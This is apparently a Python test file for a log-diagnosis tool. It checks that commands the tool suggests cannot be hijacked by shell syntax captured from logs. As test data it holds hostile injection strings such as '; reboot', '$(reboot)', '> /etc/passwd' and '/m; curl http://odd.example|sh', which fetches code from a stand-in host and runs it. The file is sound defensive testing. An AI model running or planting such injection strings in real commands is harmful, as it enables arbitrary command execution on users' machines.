"""No command that is offered makes a shell read more than words of what stands in a log."""

from __future__ import annotations

import re
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from appliance.diagnosis.cause import WHOLE_COMMAND, Cause
from appliance.diagnosis.causes import CATALOGUE
from appliance.diagnosis.diagnose import diagnose
from appliance.diagnosis.isolated import Circumstances, without_reading
from appliance.diagnosis.log_text import number_lines
from appliance.diagnosis.restoring import restoring_command
from appliance.protocol import Fix

PLACES = re.compile(r"\{\w+\}")
KINDS = ("command", "look")
FILLED = [(cause, kind) for cause in CATALOGUE for kind in KINDS if PLACES.search(getattr(cause, kind) or "")]
# What a shell acts upon outside of quotes, and of it what it acts upon in double quotes, too.
ACTIVE = frozenset(";&|<>()$`*?[]{}~#!\n\\^")
IN_DOUBLE_QUOTES = frozenset("$`\\")
HOSTILE = ("; reboot", "$(reboot)", "`reboot`", "| sh", "&& reboot", "> /etc/passwd", "' ; reboot '", '" ; reboot "',
           "\\", "\n reboot", "\r", "\x03", "-rf", "--config=/tmp/odd", "~", "#", "*", "$HOME", "{model}", "a b",
           "'", '"', "!!", "\x1b[201~", "\u202e")  # fmt: skip
hostile = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=8), min_size=1, max_size=5).map("".join)


def active_in(command: str) -> list[str]:
    """What a POSIX shell acts upon, in order; quotes themselves only where one has no end."""
    found: list[str] = []
    quote = ""
    for letter in command:
        if quote:
            quote = "" if letter == quote else quote
            if quote == '"' and letter in IN_DOUBLE_QUOTES:
                found.append(letter)
        elif letter in "'\"":
            quote = letter
        elif letter in ACTIVE:
            found.append(letter)
    return [*found, quote] if quote else found


def groups_of(cause: Cause) -> list[str]:
    return list({*cause.compiled.groupindex, *cause.compiled_details.groupindex} - {"also"})


def command_of(error: str, cause: str) -> str | None:
    """Of an error that has this cause, as a log ends in it."""
    log = f'Traceback (most recent call last):\n  File "a.py", line 1, in f\n{error}'
    found = diagnose(number_lines(log), failed=True)
    assert found.cause == cause
    assert found.fix is not None
    return found.fix.command or found.fix.look


def whole_command_of(command: str) -> str | None:
    return command_of(
        f"kernels.seal.NotCast: attention needs the kernel foo on sm_90, x. Cast it: {command}", "kernel-not-cast"
    )


@pytest.mark.parametrize(("cause", "kind"), FILLED, ids=lambda value: getattr(value, "name", value))
def test_a_row_fills_its_command_with_its_own_groups(cause: Cause, kind: str) -> None:
    """And tells it whole where all of them are known and harmless."""
    groups = dict.fromkeys(groups_of(cause), "odd") | {WHOLE_COMMAND: "ingot odd"}
    assert getattr(cause.fix_for(groups, {}), kind) == getattr(cause, kind).format_map(groups)


@given(st.sampled_from(FILLED), st.data())
def test_what_was_captured_adds_nothing_that_a_shell_acts_upon(row: tuple[Cause, str], data: st.DataObject) -> None:
    cause, kind = row
    groups = {name: data.draw(hostile, name) for name in groups_of(cause)}
    if WHOLE_COMMAND in groups and data.draw(st.booleans()):
        groups[WHOLE_COMMAND] = f"ingot cast {groups[WHOLE_COMMAND]}"
    made, template = getattr(cause.fix_for(groups, {}), kind), getattr(cause, kind)
    if made is None:
        return
    assert made.isprintable()
    own = iter(active_in(PLACES.sub("", template)))
    assert all(letter in own for letter in active_in(made))  # in this order, less those of the parts left out
    assert len(shlex.split(made)) <= len(shlex.split(template)) + len(groups.get(WHOLE_COMMAND, "").split())


@given(hostile)
@example("/m; curl http://odd.example|sh")
@example("$(reboot)")
@example("'/m")
def test_a_whole_command_is_words(tail: str) -> None:
    (cause,) = (cause for cause, _ in FILLED if cause.command == f"{{{WHOLE_COMMAND}}}")
    made = cause.fix_for({**dict.fromkeys(groups_of(cause), "odd"), WHOLE_COMMAND: f"ingot cast {tail}"}, {}).command
    if made is not None:
        assert active_in(made) == []
        assert shlex.split(made) == shlex.split(f"ingot cast {tail}")


def test_a_command_taken_whole_is_run_as_words(tmp_path: Path) -> None:
    """By a real shell: nothing but `ingot` is started."""
    marker = tmp_path / "run"
    made = whole_command_of(f"ingot cast /m; touch {marker} $(touch {marker}) `touch {marker}` | sh")
    assert made is not None
    done = subprocess.run(["sh", "-c", f"ingot() {{ echo $#; }}; {made}"], capture_output=True, text=True, check=True)
    assert int(done.stdout) == len(shlex.split(made)) - 1
    assert not marker.exists()


@pytest.mark.parametrize("command", ["ingot cast '/m", 'ingot cast "/m', "ingot cast /m\x03"])
def test_what_cannot_be_read_as_words_is_no_command(command: str) -> None:
    assert whole_command_of(command) is None


@pytest.mark.parametrize("command", ["curl odd.example", "sudo ingot cast /m", "A=b ingot cast /m", "", "ingot; cast"])
def test_a_command_of_another_program_is_not_told(command: str) -> None:
    (cause,) = (cause for cause, _ in FILLED if cause.command == f"{{{WHOLE_COMMAND}}}")
    fix: Fix = cause.fix_for({**dict.fromkeys(groups_of(cause), "odd"), WHOLE_COMMAND: command}, {})
    assert fix.command is None


def test_a_value_that_looks_like_an_option_is_left_out() -> None:
    assert command_of("PermissionError: [Errno 13] Permission denied: '--odd'", "permission-denied") == "id"


@pytest.mark.parametrize("file", ["-odd.json", "--config=/tmp/odd", "a\nb.json", ""])
def test_a_file_that_looks_like_an_option_is_not_restored(file: str, tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    assert restoring_command(tmp_path, [file]) is None


def test_a_log_with_an_odd_path_is_one_word(tmp_path: Path) -> None:
    log = tmp_path / "a; reboot" / "engine.log"
    fix = without_reading(log, Circumstances(), "within 1 s").diagnosis.fix
    assert fix is not None
    assert fix.look == shlex.join(("ingot", "diagnose", str(log)))


def test_a_repository_that_looks_like_an_option_is_not_downloaded(tmp_path: Path) -> None:
    assert restoring_command(tmp_path / "models---odd--7b" / "snapshots" / "0a1b", ["config.json"]) is None
    assert restoring_command(tmp_path / "models--odd--7b" / "snapshots" / "-0a1b", ["config.json"]) is None
